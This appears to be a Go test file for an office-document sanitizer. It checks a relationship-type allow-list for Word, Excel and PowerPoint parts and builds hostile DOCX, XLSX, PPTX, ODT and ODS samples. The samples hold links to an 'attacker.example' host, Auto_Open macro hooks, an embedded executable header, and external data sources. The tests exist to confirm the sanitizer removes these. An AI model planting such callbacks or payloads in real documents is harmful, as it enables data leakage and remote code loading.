package ooxml

import (
	"strings"
	"testing"

	"github.com/sekisho/sekisho/sanitize"
)

// relCase is one relationship the allow-list must keep: its type, a part type that may
// carry it and a content type its target may have ("" for a place inside the source).
type relCase struct{ typ, from, to string }

// relCases has one case per entry of relTypes.
var relCases = func() []relCase {
	docx := ctWML + "document.main+xml"
	xlsx := ctSML + "sheet.main+xml"
	pptx := ctPML + "presentation.main+xml"
	sheet := ctSML + "worksheet+xml"
	slide := ctPML + "slide+xml"
	both := func(kind, from, to string) []relCase {
		return []relCase{{relT + kind, from, to}, {relS + kind, from, to}}
	}
	cs := []relCase{
		{relPkg + "metadata/core-properties", "", "application/vnd.openxmlformats-package.core-properties+xml"},
		{"http://schemas.openxmlformats.org/officedocument/2006/relationships/metadata/core-properties", "", "application/vnd.openxmlformats-package.core-properties+xml"},
		{relT + "extended-properties", "", ctOX + "extended-properties+xml"},
		{relS + "extendedProperties", "", ctOX + "extended-properties+xml"},
		{relT + "custom-properties", "", ctOX + "custom-properties+xml"},
		{relS + "customProperties", "", ctOX + "custom-properties+xml"},
		{relPkg + "metadata/thumbnail", "", "image/jpeg"},
		{relS + "metadata/thumbnail", "", "image/png"},
		{relMS + "2007/relationships/hdphoto", slide, "image/vnd.ms-photo"},
		{relMS + "2014/relationships/chartEx", ctOX + "drawing+xml", ctMSO + "chartex+xml"},
		{relMS + "2011/relationships/chartStyle", ctDML + "chart+xml", ctMSO + "chartstyle+xml"},
		{relMS + "2011/relationships/chartColorStyle", ctMSO + "chartex+xml", ctMSO + "chartcolorstyle+xml"},
		{relMS + "2007/relationships/diagramDrawing", ctWML + "header+xml", ctMSO + "drawingml.diagramdrawing+xml"},
		{relMS + "2007/relationships/stylesWithEffects", docx, "application/vnd.ms-word.stylesWithEffects+xml"},
		{relMS + "2011/relationships/commentsExtended", docx, ctWML + "commentsExtended+xml"},
		{relMS + "2016/09/relationships/commentsIds", docx, ctWML + "commentsIds+xml"},
		{relMS + "2018/08/relationships/commentsExtensible", docx, ctWML + "commentsExtensible+xml"},
		{relMS + "2011/relationships/people", docx, ctWML + "people+xml"},
		{relMS + "2007/relationships/slicer", sheet, "application/vnd.ms-excel.slicer+xml"},
		{relMS + "2007/relationships/slicerCache", xlsx, "application/vnd.ms-excel.slicerCache+xml"},
		{relMS + "2011/relationships/timeline", sheet, "application/vnd.ms-excel.timeline+xml"},
		{relMS + "2011/relationships/timelineCache", xlsx, "application/vnd.ms-excel.timelineCache+xml"},
		{relMS + "2017/10/relationships/threadedComment", sheet, "application/vnd.ms-excel.threadedcomments+xml"},
		{relMS + "2017/10/relationships/person", xlsx, "application/vnd.ms-excel.person+xml"},
		{relMS + "2018/10/relationships/comments", slide, "application/vnd.ms-powerpoint.comments+xml"},
		{relMS + "2018/10/relationships/authors", pptx, "application/vnd.ms-powerpoint.authors+xml"},
	}
	for _, c := range [][3]string{
		{"officeDocument", "", docx},
		{"theme", ctPML + "slideMaster+xml", ctOX + "theme+xml"},
		{"themeOverride", slide, ctOX + "themeOverride+xml"},
		{"customXml", docx, "application/xml"},
		{"customXmlProps", "application/xml", ctOX + "customXmlProperties+xml"},
		{"image", ctWML + "footer+xml", "image/png"},
		{"hyperlink", slide, ""},
		{"chart", ctWML + "header+xml", ctDML + "chart+xml"},
		{"chartUserShapes", ctDML + "chart+xml", ctDML + "chartshapes+xml"},
		{"diagramData", slide, ctDML + "diagramData+xml"},
		{"diagramLayout", slide, ctDML + "diagramLayout+xml"},
		{"diagramQuickStyle", slide, ctDML + "diagramStyle+xml"},
		{"diagramColors", slide, ctDML + "diagramColors+xml"},
		{"styles", xlsx, ctSML + "styles+xml"},
		{"numbering", docx, ctWML + "numbering+xml"},
		{"settings", docx, ctWML + "settings+xml"},
		{"webSettings", docx, ctWML + "webSettings+xml"},
		{"fontTable", docx, ctWML + "fontTable+xml"},
		{"header", docx, ctWML + "header+xml"},
		{"footer", docx, ctWML + "footer+xml"},
		{"footnotes", docx, ctWML + "footnotes+xml"},
		{"endnotes", docx, ctWML + "endnotes+xml"},
		{"comments", sheet, ctSML + "comments+xml"},
		{"glossaryDocument", docx, ctWML + "document.glossary+xml"},
		{"worksheet", xlsx, sheet},
		{"chartsheet", xlsx, ctSML + "chartsheet+xml"},
		{"sharedStrings", xlsx, ctSML + "sharedStrings+xml"},
		{"calcChain", xlsx, ctSML + "calcChain+xml"},
		{"sheetMetadata", xlsx, ctSML + "sheetMetadata+xml"},
		{"volatileDependencies", xlsx, ctSML + "volatileDependencies+xml"},
		{"pivotCacheDefinition", ctSML + "pivotTable+xml", ctSML + "pivotCacheDefinition+xml"},
		{"pivotCacheRecords", ctSML + "pivotCacheDefinition+xml", ctSML + "pivotCacheRecords+xml"},
		{"pivotTable", sheet, ctSML + "pivotTable+xml"},
		{"table", sheet, ctSML + "table+xml"},
		{"drawing", ctSML + "chartsheet+xml", ctOX + "drawing+xml"},
		{"vmlDrawing", sheet, ctOX + "vmlDrawing"},
		{"ctrlProp", sheet, "application/vnd.ms-excel.controlproperties+xml"},
		{"slide", pptx, slide},
		{"slideLayout", ctPML + "slideMaster+xml", ctPML + "slideLayout+xml"},
		{"slideMaster", ctPML + "slideLayout+xml", ctPML + "slideMaster+xml"},
		{"notesSlide", slide, ctPML + "notesSlide+xml"},
		{"notesMaster", ctPML + "notesSlide+xml", ctPML + "notesMaster+xml"},
		{"handoutMaster", pptx, ctPML + "handoutMaster+xml"},
		{"presProps", pptx, ctPML + "presProps+xml"},
		{"viewProps", pptx, ctPML + "viewProps+xml"},
		{"tableStyles", pptx, ctPML + "tableStyles+xml"},
		{"commentAuthors", pptx, ctPML + "commentAuthors+xml"},
		{"tags", slide, ctPML + "tags+xml"},
	} {
		cs = append(cs, both(c[0], c[1], c[2])...)
	}
	return cs
}()

// TestRelTypesCovered: every allowed relationship type is kept for its case, and refused
// from a part type that may not carry it, to a target of another type, and under a
// spelling that differs in case (OPC compares relationship types as strings).
func TestRelTypesCovered(t *testing.T) {
	var keys, cases []string
	for k := range relTypes {
		keys = append(keys, k)
	}
	const alien = "application/vnd.example.unknown+xml"
	for _, c := range relCases {
		cases = append(cases, c.typ)
		if !relAllowed(c.typ, c.from, c.to) {
			t.Errorf("%s from %q to %q refused, want kept", c.typ, c.from, c.to)
		}
		if relAllowed(c.typ, alien, c.to) {
			t.Errorf("%s from %q kept, want refused", c.typ, alien)
		}
		if c.to != "" && relAllowed(c.typ, c.from, alien) {
			t.Errorf("%s to %q kept, want refused", c.typ, alien)
		}
		if relAllowed(strings.ToUpper(c.typ), c.from, c.to) {
			t.Errorf("%s in upper case kept, want refused", c.typ)
		}
	}
	covered(t, "relTypes", keys, cases)
	for _, typ := range []string{
		relT + "printerSettings", relT + "revisionHeaders", relT + "xmlMaps", relT + "audio", relT + "video",
		relMS + "2006/relationships/legacyDocTextInfo", relMS + "2017/06/relationships/model3d",
		relMS + "2017/06/relationships/rdRichValue", "http://example.com/relationships/unknown", "",
	} {
		if relAllowed(typ, ctWML+"document.main+xml", "") || relAllowed(typ, ctSML+"worksheet+xml", "") || relAllowed(typ, ctPML+"slide+xml", "") {
			t.Errorf("%q kept, want refused", typ)
		}
	}
}

// relationshipCases are packages whose relationships are not on the allow-list: an
// unknown type to a part of a known namespace, a known type carried by the wrong part
// type, a known type pointing at a part of the wrong type, and a part reached both ways.
func relationshipCases() []hostileCase {
	const evil = "http://attacker.example/relationships/payload"
	docXML := `<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="` + nsW[0] + `"><w:body><w:p><w:r><w:t>SMUGGLED-TEXT</w:t></w:r></w:p></w:body></w:document>`
	return []hostileCase{
		{
			name: "rel-unknown-type.docx", base: "ooxml/report.docx",
			edits: []edit{
				addType("word/payload.xml", "application/vnd.attacker.payload+xml"),
				add("word/payload.xml", docXML),
				addRel(docRels, "rId80", evil, "payload.xml", ""),
			},
			kinds: []sanitize.ActionKind{sanitize.ActRemovedUnknown},
			gone:  []string{"payload", "SMUGGLED-TEXT", "attacker.example"},
			text:  []string{"End of the sample report"},
		},
		{
			// A header relationship is Word's, but styles.xml may not carry one.
			name: "rel-wrong-source.docx", base: "ooxml/report.docx",
			edits: []edit{
				addType("word/header9.xml", ctWML+"header+xml"),
				add("word/header9.xml", strings.ReplaceAll(docXML, "w:document", "w:hdr")),
				add("word/_rels/styles.xml.rels", `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="`+nsRels+`"><Relationship Id="rId1" Type="`+relT+`header" Target="header9.xml"/></Relationships>`),
			},
			kinds: []sanitize.ActionKind{sanitize.ActRemovedUnknown},
			gone:  []string{"header9", "SMUGGLED-TEXT"},
			text:  []string{"End of the sample report"},
		},
		{
			// A settings relationship whose target is declared a worksheet.
			name: "rel-wrong-target.docx", base: "ooxml/report.docx",
			edits: []edit{
				addType("word/settings2.xml", ctSML+"worksheet+xml"),
				add("word/settings2.xml", docXML),
				addRel(docRels, "rId81", relT+"settings", "settings2.xml", ""),
			},
			kinds: []sanitize.ActionKind{sanitize.ActRemovedUnknown},
			gone:  []string{"settings2", "SMUGGLED-TEXT"},
			text:  []string{"End of the sample report"},
		},
		{
			// An unknown relationship to a part that a listed one also reaches: the
			// relationship goes, the part stays.
			name: "rel-unknown-shared-target.docx", base: "ooxml/report.docx",
			edits: []edit{
				addRel(docRels, "rId82", evil, "styles.xml", ""),
			},
			kinds: []sanitize.ActionKind{sanitize.ActRemovedUnknown},
			gone:  []string{"attacker.example", "rId82"},
			text:  []string{"End of the sample report"},
		},
	}
}

// elementCases are names a familiar namespace does not define: an element Word would not
// know, with text inside, and attributes a future feature or an attacker adds to known
// elements, in a document and a worksheet.
func elementCases() []hostileCase {
	return []hostileCase{
		{
			name: "unknown-element.docx", base: "ooxml/report.docx",
			edits: []edit{
				replace("word/document.xml", "<w:body>", `<w:body><w:futureFeature w:onAction="Module1.Run"><w:p><w:r><w:t>SMUGGLED-TEXT</w:t></w:r></w:p></w:futureFeature><w:p w:scriptUrl="https://attacker.example/x.js"><w:r><w:t>Kept paragraph</w:t></w:r></w:p>`),
			},
			kinds: []sanitize.ActionKind{sanitize.ActRemovedUnknown},
			gone:  []string{"futureFeature", "SMUGGLED-TEXT", "onAction", "attacker.example", "scriptUrl"},
			text:  []string{"Kept paragraph", "End of the sample report"},
		},
		{
			name: "unknown-attribute.xlsx", base: "ooxml/ledger.xlsx",
			edits: []edit{
				replace("xl/worksheets/sheet1.xml", `<c r="A1" s="0" t="s">`, `<c r="A1" s="0" t="s" onEdit="Macro1" href="file://attacker.example/share">`),
				replace("xl/worksheets/sheet1.xml", "<sheetData>", `<sheetData><rowMacro name="Auto_Open"/>`),
			},
			kinds: []sanitize.ActionKind{sanitize.ActRemovedUnknown},
			gone:  []string{"onEdit", "Macro1", "attacker.example", "rowMacro", "Auto_Open"},
			text:  []string{"Rent", "1820"},
		},
		{
			// Word hands w:fldData to the field's own binary parser; the field and its
			// result stay.
			name: "field-data.docx", base: "ooxml/report.docx",
			edits: []edit{
				replace(docMain, docEnd, docEnd+`<w:r><w:fldChar w:fldCharType="begin"><w:fldData xml:space="preserve">TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAA=</w:fldData></w:fldChar></w:r><w:r><w:instrText>PAGE</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>FieldShown</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`),
			},
			kinds: []sanitize.ActionKind{sanitize.ActRemovedUnknown},
			gone:  []string{"fldData", "TVqQAAMAAAAEAAAA"},
			text:  []string{"End of the sample report"},
		},
		{
			// o:gfxdata is a zipped package (here with an external image relationship)
			// that Word 2007 unpacks into the shape; the VML text box stays.
			name: "vml-gfxdata.docx", base: "ooxml/report.docx",
			edits: []edit{
				replace(docMain, docEnd, docEnd+`<w:r><w:pict><v:shape id="_x0000_s2002" type="#_x0000_t202" style="width:120pt;height:30pt" o:gfxdata="`+gfxdataZip+`"><v:textbox><w:txbxContent><w:p><w:r><w:t>Box keeps its text</w:t></w:r></w:p></w:txbxContent></v:textbox></v:shape></w:pict></w:r>`),
			},
			kinds: []sanitize.ActionKind{sanitize.ActRemovedUnknown},
			gone:  []string{"gfxdata", gfxdataZip[:40]},
			text:  []string{"Box keeps its text", "End of the sample report"},
		},
		{
			// PowerPoint's HTML publishing target: a relationship to a share PowerPoint
			// writes the web page to.
			name: "html-publish.pptx", base: "ooxml/slides.pptx",
			edits: []edit{
				add("ppt/_rels/presProps.xml.rels", `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="`+relBase+`htmlPubSaveAs" Target="file:///\\attacker.example\s\deck.htm" TargetMode="External"/></Relationships>`),
				replace("ppt/presProps.xml", "<p:showPr ", `<p:htmlPubPr r:id="rId1"><p:sldAll/></p:htmlPubPr><p:showPr `),
			},
			kinds: []sanitize.ActionKind{sanitize.ActRemovedExternalLink},
			gone:  []string{"htmlPubPr", "attacker.example", "htmlPubSaveAs"},
		},
		{
			name: "web-publish.xlsx", base: "ooxml/ledger.xlsx",
			edits: []edit{
				replace(wbMain, "<extLst>", `<webPublishObjects count="1"><webPublishObject id="1" divId="x" destinationFile="\\attacker.example\s\y.htm" autoRepublish="1"/></webPublishObjects><extLst>`),
			},
			kinds: []sanitize.ActionKind{sanitize.ActRemovedExternalLink},
			gone:  []string{"webPublishObject", "attacker.example", "autoRepublish"},
			text:  []string{"Rent", "1820"},
		},
		{
			// A form that connects to a database and an image control that loads a
			// remote picture when the form shows; the form and its controls stay.
			name: "form-sources.odt", base: "odf/report.odt",
			edits: []edit{
				replace("content.xml", "<office:text>", `<office:text><office:forms><form:form form:name="F" form:datasource="sdbc:mysql:jdbc:attacker.example:3306/db" form:command="t" form:command-type="table"><form:image-frame form:id="f" form:name="f" form:image-data="https://attacker.example/k.png"/></form:form></office:forms>`),
			},
			kinds: []sanitize.ActionKind{sanitize.ActRemovedExternalLink},
			gone:  []string{"attacker.example", "form:datasource", "form:image-data"},
			text:  []string{"End of the sample report"},
		},
		{
			name: "pilot-service.ods", base: "odf/ledger.ods",
			edits: []edit{
				replace("content.xml", "</office:spreadsheet>", `<table:data-pilot-tables><table:data-pilot-table table:name="p" table:target-range-address="Ledger.E5:Ledger.F6"><table:source-service table:name="com.sun.star.x" table:source-name="\\attacker.example\s" table:object-name="o" table:user-name="u" table:password="p"/></table:data-pilot-table></table:data-pilot-tables></office:spreadsheet>`),
			},
			kinds: []sanitize.ActionKind{sanitize.ActRemovedExternalLink},
			gone:  []string{"source-service", "attacker.example", "com.sun.star.x"},
			text:  []string{"Rent", "1820"},
		},
	}
}

// gfxdataZip is a zipped OPC package whose only relationship is an external image on a
// share, base64-encoded as Word writes o:gfxdata.
const gfxdataZip = "UEsDBBQAAAAIANkth11XvuoOiQAAALYAAAATAAAAW0NvbnRlbnRfVHlwZXNdLnhtbF2OMQ7CMAxFr1JlRa0rBgbUdoHegAtYwW0i0sSKDSq3Jy1MjPZ/9vvd7c0k1bqEKL1xqnwGEOtoQWkSUyzJlPKCWsY8A6N94ExwbNsT2BSVota6/TBDd6UJn0GrcS1r8Sn2JlMQU12+4ObqDTIHb1FLDq94/7PUP0NTLndGnGc5FMDA0MFed/gAUEsDBBQAAAAIANkth13zWHtwoAAAAA0BAAALAAAAX3JlbHMvLnJlbHONjz0OwjAMha9S5QB1YWBAbScYOnRBXMBKnTQif3KMVG5PFqQiMTBa7+n7nvsbeRSXYlldLs0WfCyDWkXyGaDolQKWNmWKNTGJA0o92UJG/UBLcOy6E/CeocZ+z2ymZVA8LQfV3F+Z/mEnY5ymS9LPQFF+KMCF6q5AZEsyKOM8VSSK1FXELW0YsicogG2O9lOc01L9102II3oFYw9f349vUEsBAhQDFAAAAAgA2S2HXVe+6g6JAAAAtgAAABMAAAAAAAAAAAAAAIABAAAAAFtDb250ZW50X1R5cGVzXS54bWxQSwECFAMUAAAACADZLYdd81h7cKAAAAANAQAACwAAAAAAAAAAAAAAgAG6AAAAX3JlbHMvLnJlbHNQSwUGAAAAAAIAAgB6AAAAgwEAAAAA"
